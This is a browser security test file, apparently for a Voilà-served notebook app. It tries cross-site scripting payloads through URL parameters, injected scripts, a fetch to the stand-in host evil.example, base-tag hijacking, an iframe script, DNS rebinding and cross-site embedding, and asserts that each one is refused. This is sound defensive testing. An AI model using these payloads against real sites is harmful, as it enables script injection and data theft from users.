"""What a page of somebody else's, a link or a script could do here, tried in a real browser."""

import http.server
import re
import shlex
import threading
from contextlib import contextmanager
from urllib.parse import quote

import pytest

from tests.browser.chromium import ARGUMENTS, chromium_path
from tests.browser.page import Page
from tests.browser.serving import BIN, ROOT, free_port, process, wait_for

pytestmark = pytest.mark.browser

HIT = '"><script>window.hit = 1</script><img src=x onerror="window.hit = 1">'
# Every argument that Voilà reads of an address, and two that together do more than each.
QUERIES = [
    {"theme": HIT},
    {"template": "lab", "theme": HIT, "classic-tree": "true", "voila-theme": HIT, "other": HIT},
]


# Data in the page is JSON, and is never run.
WRITTEN = """
  window.hit !== undefined ||
  [...document.scripts].some((one) => !one.type.includes("json") && one.text.includes("hit = 1"))
"""


def new_page(chromium):
    """Open a tab that waits for a busy machine."""
    page = chromium.new_page()
    page.set_default_timeout(120_000)
    return page


def hits(chromium, address, paths):
    """Go to each address, and say at which of them a script of the address's own ran."""
    found = []
    for path in paths:
        for query in QUERIES:
            page = new_page(chromium)
            told = "&".join(f"{name}={quote(value)}" for name, value in query.items())
            page.goto(f"{address}{path}?{told}", wait_until="commit")
            page.wait_for_selector("body > *", state="attached")  # what stands in body's tag ran
            if page.evaluate(WRITTEN):
                found.append(page.url)
            page.close()
    return found


def test_no_script_of_an_address_runs_in_the_page_of_the_command(chromium, address):
    assert not hits(chromium, address, [""])


def test_no_script_of_an_address_runs_in_voila_as_the_docs_start_it(chromium, tmp_path):
    documented = re.search(
        r"```sh\n(voila notebooks/explorer\.ipynb .*?)```",
        (ROOT / "docs" / "howto" / "serving.md").read_text(),
        re.DOTALL,
    )
    command = shlex.split(documented[1].replace("\\\n", " "))
    port = free_port()
    command[0] = str(BIN / "voila")
    log = tmp_path / "voila.log"
    with process([*command, "--no-browser", f"--port={port}"], log) as server:
        address = f"http://localhost:{port}/"
        wait_for(address + "voila/static/voila.js", server, log)
        assert not hits(chromium, address, [""])


WATCH = """
  window.broken = [];
  document.addEventListener("securitypolicyviolation", (event) =>
    window.broken.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""
TABS = (
    *("Signal", "Function", "My nights", "Compare", "Plan", "Magnesium lab", "Evidence"),
    *("School", "Exercises"),
    "Night",
)


def uses(chromium, address):
    """Use the page, each tab of it, and say what its policy refused."""
    shown = Page(chromium, address)
    shown.page.add_init_script(WATCH)
    shown.open()
    shown.page.keyboard.press("ArrowRight")
    for tab in TABS:
        shown.page.get_by_role("button", name=tab, exact=True).click()
        shown.wait_for_rest()
    shown.page.get_by_role("button", name="share", exact=True).click()
    shown.page.keyboard.press("Escape")
    shown.page.get_by_role("button", name="dark", exact=True).click()
    shown.wait_for_picture()
    shown.wait_for_rest()
    return shown, shown.page.evaluate("window.broken")


def tries(page):
    """Do in the page what an injected script would begin with; say what of it worked."""
    return page.evaluate(
        """async () => {
          const worked = [];
          const inline = document.createElement("script");
          inline.textContent = "window.hit = 1";
          document.body.append(inline);
          const handler = document.createElement("div");
          handler.innerHTML = '<img src="nothing" onerror="window.hit = 1">';
          document.body.append(handler);
          const outside = document.createElement("script");
          outside.src = "https://evil.example/script.js";
          outside.onload = () => worked.push("a script from outside");
          document.body.append(outside);
          const evaluating = document.createElement("script"); // the driver's own words may
          const words = new Blob(["window.worked = new Function('return 1')()"]);
          evaluating.src = URL.createObjectURL(words);
          document.body.append(evaluating);
          await fetch("https://evil.example/?told").then(
            () => worked.push("a fetch"), () => null);
          const base = document.createElement("base");
          base.href = "https://evil.example/";
          document.head.prepend(base);
          if (document.baseURI.includes("evil")) worked.push("another base");
          base.remove();
          const frame = document.createElement("iframe");
          frame.srcdoc = "<script>parent.hit = 1</scr" + "ipt>";
          document.body.append(frame);
          await new Promise((resolve) => setTimeout(resolve, 1000));
          if (window.hit) worked.push("a script in the page");
          if (window.worked) worked.push("words as a function");
          return worked;
        }"""
    )


def allows_everything(page):
    """Answer for the whole world, so that only the policy can refuse."""
    page.unroute_all()
    page.route(
        "https://evil.example/**",
        lambda route: route.fulfill(
            body="window.hit = 1",
            content_type="text/javascript",
            headers={"Access-Control-Allow-Origin": "*"},
        ),
    )


def test_the_page_works_under_its_policy_and_an_injected_script_does_not(chromium, address):
    shown, broken = uses(chromium, address)
    assert not broken
    assert not shown.errors
    assert not shown.outside  # what is tried now is meant to be refused, and is no fault
    allows_everything(shown.page)
    assert not tries(shown.page)
    shown.page.close()


def test_a_foreign_name_that_leads_to_this_machine_gets_no_page(chromium, address):
    rebound = chromium.browser_type.launch(
        executable_path=chromium_path(),
        args=[*ARGUMENTS, "--host-resolver-rules=MAP evil.example 127.0.0.1"],
    )
    page = rebound.new_page()
    named = address.replace("127.0.0.1", "evil.example")
    assert page.goto(named).status == 403
    assert "asked for as “evil.example”" in page.inner_text("body")
    for path in ("voila/static/voila.js", "api/kernels/aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee"):
        assert page.goto(named + path).status == 403
    rebound.close()


@contextmanager
def another_site(text):
    """Serve a page of somebody else's on another port of this machine; give its address."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(text.encode())

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://localhost:{server.server_port}/"
    server.shutdown()
    server.server_close()


def test_another_sites_pictures_and_frames_of_the_page_are_refused(chromium, address):
    kinds = (f'<img src="{address}">', f'<iframe src="{address}"></iframe>')
    answers = {}

    def note(answer):
        if answer.url.startswith(address):
            answers[answer.request.resource_type] = answer.status

    with another_site(f'{"".join(kinds)}<script src="{address}"></script>') as site:
        page = new_page(chromium)
        page.on("response", note)
        page.goto(site, wait_until="load")
        page.close()
    assert set(answers.values()) == {403}
    assert "document" in answers  # pictures and scripts end before their answer is told
